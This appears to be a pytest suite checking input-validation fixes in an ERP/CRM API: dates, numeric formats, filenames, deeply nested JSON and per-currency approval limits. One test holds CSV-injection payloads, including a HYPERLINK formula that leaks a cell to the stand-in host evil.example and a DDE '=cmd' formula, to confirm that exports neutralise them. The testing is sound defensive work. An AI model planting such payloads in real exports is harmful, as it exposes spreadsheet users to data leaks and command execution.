"""Trust at the edges (issue 21), on the running system: each input that used to be a 500 now gets a 4xx problem
(or works), loose numbers and dates are refused, CSV exports cannot run formulas, and expense approval limits
count per currency."""

import csv
import io
import uuid
from typing import Any
from urllib.parse import unquote

import httpx
import pytest

from devstack.stack import Stack
from tests.erp_costs.helpers import PNG, as_role, new_client, new_cost_center, new_expense, new_project
from tests.support import Api

pytestmark = pytest.mark.fault

CSV = {"Content-Type": "text/csv"}


def problem(response: httpx.Response, status: int = 422) -> dict[str, Any]:
    assert response.status_code == status, f"{response.request.method} {response.request.url}: {response.text}"
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    assert body["status"] == status and body["detail"]
    return body


def test_a_receipt_named_in_any_script_downloads(stack: Stack, admin: Api) -> None:
    """Before: a non-ASCII receipt name made every download of it a 500 (the header could not be encoded)."""
    sales = as_role(stack, "sales")
    expense = new_expense(sales, cost_center_id=new_cost_center(admin)["id"])
    name = "Quittung Müller März 領収書.png"
    sales.ok("POST", f"/api/erp/expenses/{expense['id']}/receipt", 201, files={"file": (name, PNG, "image/png")})
    for api in (sales, admin):  # straight at the ERP, and through the gateway
        response = api.get(f"/api/erp/expenses/{expense['id']}/receipt")
        assert response.status_code == 200 and response.content == PNG, response.text[:200]
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('inline; filename="Quittung Muller Marz ___.png"; filename*=UTF-8\'\'')
        assert unquote(disposition.split("UTF-8''", 1)[1]) == name


def test_dates_outside_2000_to_2100_are_refused_where_they_used_to_overflow(admin: Api) -> None:
    """Before: reports up to 9999-12-31 and a reminder run as of 0001-01-01 overflowed date arithmetic (500s)."""
    for path in ("/api/erp/reports/profitability", "/api/erp/reports/cash-flow", "/api/erp/reports/utilisation"):
        assert "2100-12-31" in problem(admin.get(path, params={"date_to": "9999-12-31"}))["detail"]
        problem(admin.get(path, params={"date_from": "0001-01-01"}))
    problem(admin.get("/api/erp/reports/ar-aging", params={"as_of": "9999-12-31"}))
    problem(admin.get("/api/erp/time-entries", params={"date_from": "0"}))  # not a Unix time either
    for path in ("/api/erp/reminder-runs", "/api/erp/billing-runs"):
        for as_of in ("0001-01-01", "9999-12-31"):
            assert "as_of" in problem(admin.post(path, json={"as_of": as_of}))["detail"]
    company = admin.new_company()
    problem(admin.post("/api/crm/deals", json={"title": "Year one", "company_id": company["id"], "amount": "10.00",
                                               "currency": "EUR", "expected_close_date": "0001-01-01"}))
    far_billing = {"type": "fixed", "installments": 120, "interval": "month", "start_date": "9999-01-01"}
    problem(admin.post("/api/crm/deals", json={"title": "Far", "company_id": company["id"], "amount": "10.00",
                                               "currency": "EUR", "billing": far_billing}))
    problem(admin.post("/api/crm/tasks", json={"title": "Call", "due_at": "0001-01-01T00:00:00Z"}))


def test_loose_numbers_are_refused(stack: Stack, admin: Api) -> None:
    """Before: "1_000" and " 5 " were amounts, a quantity could be a JSON float, counts could be "3" or 3.0."""
    sales = as_role(stack, "sales")
    center = new_cost_center(admin)["id"]
    for amount in ("1_000", " 5 ", "5 ", "1e3", 5, 5.5, True):
        body = {"amount": amount, "currency": "EUR", "expense_date": "2026-11-20", "cost_center_id": center}
        problem(sales.post("/api/erp/expenses", json=body))
    assert new_expense(sales, cost_center_id=center, amount="1000.00")["amount"] == "1000.00"
    company = admin.new_company()
    deal = {"title": "Loose", "company_id": company["id"], "currency": "EUR"}
    for amount in ("1_000", " 5 ", 10):
        problem(admin.post("/api/crm/deals", json={**deal, "amount": amount}))
    for billing in ({"type": "fixed", "installments": "3", "start_date": "2027-01-01"},
                    {"type": "fixed", "installments": 3.0, "start_date": "2027-01-01"},
                    {"type": "retainer", "amount": 500, "count": 2, "start_date": "2027-01-01"},
                    {"type": "time_and_materials", "hourly_rate": "1_00"}):
        problem(admin.post("/api/crm/deals", json={**deal, "amount": "1000.00", "billing": billing}))
    client = new_client(admin, stack, currency="JPY")
    project = new_project(admin, client["id"], budget_amount="100000")
    line = {"description": "Workshop", "quantity": 1.5, "unit_price": "1000"}
    problem(admin.post("/api/erp/invoices", json={"project_id": project["id"], "lines": [line]}))
    problem(admin.post("/api/erp/invoices", json={"project_id": project["id"],
                                                  "lines": [{**line, "quantity": "1", "unit_price": "999.5"}]}))
    problem(admin.post("/api/erp/projects", json={"name": "Yen", "client_id": client["id"], "budget_amount": "10.5"}))
    problem(admin.post("/api/erp/time-entries", json={"project_id": project["id"], "work_date": "2026-11-20",
                                                      "hours": 7.5}))
    whole = admin.ok("POST", "/api/erp/invoices", 201, json={"project_id": project["id"],
                                                             "lines": [{**line, "quantity": 2}]})
    assert whole["subtotal"] == "2000"  # the tax on top is the default rate of the day, which other tests change


def test_a_billing_cell_nested_1100_deep_is_a_row_error(admin: Api) -> None:
    """Before: json.loads ran out of recursion on it (a RecursionError, 500)."""
    company = admin.new_company()
    deep = "[" * 1100 + "]" * 1100
    text = f"title,company_id,amount,currency,billing\nDeep,{company['id']},10.00,EUR,{deep}\n"
    result = admin.ok("POST", "/api/crm/import/deals", content=text.encode(), headers=CSV)
    assert (result["imported"], result["failed"]) == (0, 1)
    assert result["errors"][0]["field"] == "billing" and "deeper" in result["errors"][0]["message"]


def test_csv_exports_neutralise_formulas_and_import_them_back_as_they_were(admin: Api) -> None:
    tag = uuid.uuid4().hex[:8]
    formulas = {"name": f'=HYPERLINK("https://evil.example/?"&A1,"Click {tag}")', "phone": "+44 20 7946 0000",
                "address": "=cmd|' /C calc'!A0", "industry": "@SUM(A1:A9)"}
    company = admin.ok("POST", "/api/crm/companies", 201, json={**formulas, "domain": f"f-{tag}.example"})
    exported = admin.get("/api/crm/export/companies")
    assert exported.status_code == 200 and exported.headers["content-disposition"] == \
        'attachment; filename="companies.csv"'
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    row = next(r for r in rows if r["id"] == company["id"])
    for field, value in formulas.items():
        assert row[field] == "'" + value, field  # a spreadsheet shows it as text and runs nothing
    assert not any(cell[:1] in "=+-@" for r in rows for cell in r.values() if cell)
    # The exported row imports back as it was (under another domain: the original's is taken).
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow({**row, "domain": f"copy-{tag}.example"})
    imported = admin.ok("POST", "/api/crm/import/companies", content=out.getvalue().encode(), headers=CSV)
    assert imported["imported"] == 1, imported
    copy = admin.ok("GET", f"/api/crm/companies/{imported['ids'][0]}")
    assert {field: copy[field] for field in formulas} == formulas


def test_expense_approval_limits_count_per_currency(stack: Stack, admin: Api) -> None:
    """Before: 999 CLF (about 37,000 EUR) passed a project manager's limit of "1000"."""
    sales, pm = as_role(stack, "sales"), as_role(stack, "project_manager")
    center = new_cost_center(admin)["id"]

    def submitted(amount: str, currency: str) -> dict[str, Any]:
        expense = new_expense(sales, cost_center_id=center, amount=amount, currency=currency)
        sales.ok("POST", f"/api/erp/expenses/{expense['id']}/receipt", 201,
                 files={"file": ("r.png", PNG, "image/png")})
        return sales.ok("POST", f"/api/erp/expenses/{expense['id']}/submit")  # type: ignore[no-any-return]

    clf, eur, usd = submitted("999.0000", "CLF"), submitted("999.00", "EUR"), submitted("1100.01", "USD")
    assert (clf["required_approval"], eur["required_approval"], usd["required_approval"]) == (
        "finance", "manager", "finance")
    refused = problem(pm.post(f"/api/erp/expenses/{clf['id']}/approve"), 403)
    assert refused["type"].endswith("/approval-level") and "CLF have no manager limit" in refused["detail"]
    assert "above 1100.00 USD" in problem(pm.post(f"/api/erp/expenses/{usd['id']}/approve"), 403)["detail"]
    assert pm.ok("POST", f"/api/erp/expenses/{eur['id']}/approve")["status"] == "approved"
    with as_role(stack, "finance") as finance:
        assert finance.ok("POST", f"/api/erp/expenses/{clf['id']}/approve")["status"] == "approved"
